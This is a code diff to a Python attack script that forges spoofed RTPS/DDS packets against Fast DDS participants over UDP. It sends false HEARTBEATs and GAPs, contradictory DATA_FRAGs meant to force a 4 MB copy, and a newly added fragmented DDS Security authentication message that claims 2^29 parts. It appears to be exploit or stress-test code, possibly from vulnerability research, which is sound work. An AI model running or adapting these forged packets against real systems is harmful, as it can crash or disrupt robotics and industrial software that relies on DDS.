@@ -25,6 +25,9 @@ DATA, DATA_FRAG, HEARTBEAT, ACKNACK, GAP = 0x15, 0x16, 0x07, 0x06, 0x08
 # The built-in readers and writers that every participant has.
 BUILTIN = (0x000100C2, 0x000100C7, 0x000003C2, 0x000003C7, 0x000004C2, 0x000004C7, 0x000200C2, 0x000200C7, 0xFF0101C2, 0xFF0202C3,
            0x00000000)
+# The writer of DDS Security's authentication messages, and such a message whose data claim 2^29 parts.
+PROOF_WRITER = struct.pack(">I", 0x000201C3)
+FALSE_PROOF = struct.pack("<I", 0x100) + bytes(96) + struct.pack("<II", 1, 0) + struct.pack("<I", 1 << 29)
 EDGES = (0, 1, 2, 3, 4, 0x7F, 0x80, 0xFF, 0x7FFF, 0x8000, 0xFFFF, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFE, 0xFFFFFFFF)
 
 
@@ -215,14 +218,16 @@ def forged(kind, before, writer, after):
     return struct.pack("<BBH", kind, 1 if kind == DATA_FRAG else 3, len(body)) + body
 
 
-def fragments(writer, count, size, sample):
-    """Returns a DATA_FRAG with the first `count` fragments of a sample that no writer has sent."""
-    return forged(DATA_FRAG, struct.pack("<HH", 0, 28), writer, struct.pack("<IIIHHI", 256, 1, 1, count, size, sample) + bytes(count * size))
+def fragments(writer, count, size, sample, content=b"", number=1):
+    """Returns a DATA_FRAG with the first `count` fragments of a sample that no writer has sent. It begins with `content`."""
+    return forged(DATA_FRAG, struct.pack("<HH", 0, 28), writer,
+                  struct.pack("<IIIHHI", 256, number, 1, count, size, sample) + content.ljust(count * size, b"\0"))
 
 
 def forge(path, seconds, targets):
     """Sends unencrypted packets in the name of the members. HEARTBEATs claim that all samples up to number 2^40 are gone. Each GAP is for other
-    numbers after a missing sample. Of two DATA_FRAGs, the second contradicts the first one, so that Fast DDS would copy 4 MB from it."""
+    numbers after a missing sample. Of two DATA_FRAGs, the second contradicts the first one, so that Fast DDS would copy 4 MB from it. A
+    fragmented authentication message claims more parts than it has bytes."""
     names = {payload[8:20] for payload in read_captured(path) if payload[:4] == b"RTPS"}
     writers = [struct.pack(">I", number << 8 | kind) for number in range(1, 65) for kind in (2, 3)]
     udp = sender(targets)
@@ -238,6 +243,7 @@ def forge(path, seconds, targets):
             send(name, b"".join(forged(HEARTBEAT, b"", writer, struct.pack("<IIIII", 256, 0, 256, 0, 10 ** 6 + sent)) for writer in writers))
             start = 10 + (sent << 18)
             send(name, b"".join(forged(GAP, b"", writer, struct.pack("<IIIII", 256, start, 256, start + (1 << 18), 0)) for writer in writers))
+            send(name, fragments(PROOF_WRITER, 2, 100, 200, FALSE_PROOF, 10 ** 6 + sent))
             for writer in writers if sent == 0 else ():
                 send(name, fragments(writer, 1, 4000, 4_000_000))
                 send(name, fragments(writer, 1000, 4, 4000))
